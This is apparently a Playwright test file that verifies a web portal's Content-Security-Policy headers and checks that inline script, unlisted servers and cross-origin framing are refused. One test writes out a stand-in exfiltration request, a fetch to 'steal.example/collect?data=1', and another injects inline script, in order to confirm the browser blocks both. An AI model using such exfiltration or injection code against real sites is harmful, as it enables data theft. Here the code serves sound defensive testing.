// Content security: the release build is served with the headers of
// scripts/headers.mjs, and the policy holds. Every other test already fails
// on any refusal the browser reports (pages.mjs, cspReports); these tests
// show that the policy is strict: inline script, a server not in the
// config and framing by another site are refused.
import { test, expect } from './pages.mjs';
import { signIn, people, Portal, CONNECTED, CONNECTED_ORIGIN } from './pages.mjs';

test.describe('Content-Security-Policy', () => {
  test.use({ cspReportsExpected: true });

  test('the page and its start-up come with a strict policy and no inline script', async ({ page, cspReports }) => {
    const response = await page.goto('/inloggen');
    const headers = response.headers();
    const policy = Object.fromEntries(
      headers['content-security-policy'].split(';').map((d) => d.trim().split(/\s+/)).map(([name, ...values]) => [name, values]),
    );
    expect(policy['script-src']).toEqual(["'self'", "'wasm-unsafe-eval'"]);
    expect(policy['default-src']).toEqual(["'none'"]);
    expect(policy['frame-ancestors']).toEqual(["'none'"]);
    expect(policy['style-src']).toEqual(["'self'"]);
    // Demo mode: the portal itself only. Connected: the servers of the
    // config served (tests/connected/config.json), and, for this test run
    // only, any port on 127.0.0.1 (each worker's backend has its own).
    expect(policy['connect-src']).toEqual(CONNECTED ? ["'self'", 'http://127.0.0.1:8787', 'http://127.0.0.1:*'] : ["'self'"]);
    expect(headers['x-content-type-options']).toBe('nosniff');
    expect(headers['referrer-policy']).toBe('no-referrer');

    // The HTML as served: every script is a file.
    const html = await response.text();
    const scripts = [...html.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/g)];
    expect(scripts.length).toBeGreaterThan(0);
    for (const [, attributes, body] of scripts) {
      expect(attributes).toMatch(/\bsrc="\/[^"]+\.js"/);
      expect(body.trim()).toBe('');
    }
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    expect(cspReports).toEqual([]);
  });

  test('an inline script put into the page does not run', async ({ page, cspReports }) => {
    await signIn(page, 'sanne');
    await new Portal(page).expectHomeOf(people.sanne);
    const ran = await page.evaluate(async () => {
      const script = document.createElement('script');
      script.textContent = 'window.__inline = true';
      document.body.append(script);
      const handler = document.createElement('div');
      handler.setAttribute('onclick', 'window.__handler = true');
      document.body.append(handler);
      handler.click();
      await new Promise((r) => setTimeout(r, 100));
      return { inline: window.__inline ?? false, handler: window.__handler ?? false };
    });
    expect(ran).toEqual({ inline: false, handler: false });
    await expect.poll(() => cspReports.filter((r) => /script-src/.test(r)).length).toBeGreaterThanOrEqual(2);
  });

  test('a request to a server that is not in the config is refused', async ({ page, cspReports }) => {
    await signIn(page, 'sanne');
    await new Portal(page).expectHomeOf(people.sanne);
    const outcome = await page.evaluate(() =>
      fetch('https://steal.example/collect?data=1').then(() => 'sent', () => 'refused'));
    expect(outcome).toBe('refused');
    await expect.poll(() => cspReports.some((r) => /connect-src/.test(r) && r.includes('steal.example'))).toBe(true);
  });

  test('another site cannot show the portal in a frame', async ({ page, baseURL, cspReports }) => {
    const target = CONNECTED ? CONNECTED_ORIGIN : baseURL;
    // A page of another origin (the test's own, on about:blank) frames the portal.
    await page.setContent(`<iframe id="f" src="${target}/inloggen" title="portal"></iframe>`);
    await expect.poll(() => cspReports.some((r) => /frame-ancestors/.test(r))).toBe(true);
    // The frame holds the browser's refusal, not the portal (no skip link, no main).
    const framed = page.frames().find((f) => f !== page.mainFrame());
    expect(framed, 'the frame element exists').toBeTruthy();
    await expect.poll(() => framed.locator('#main, .skip-link').count().catch(() => 0)).toBe(0);
  });
});
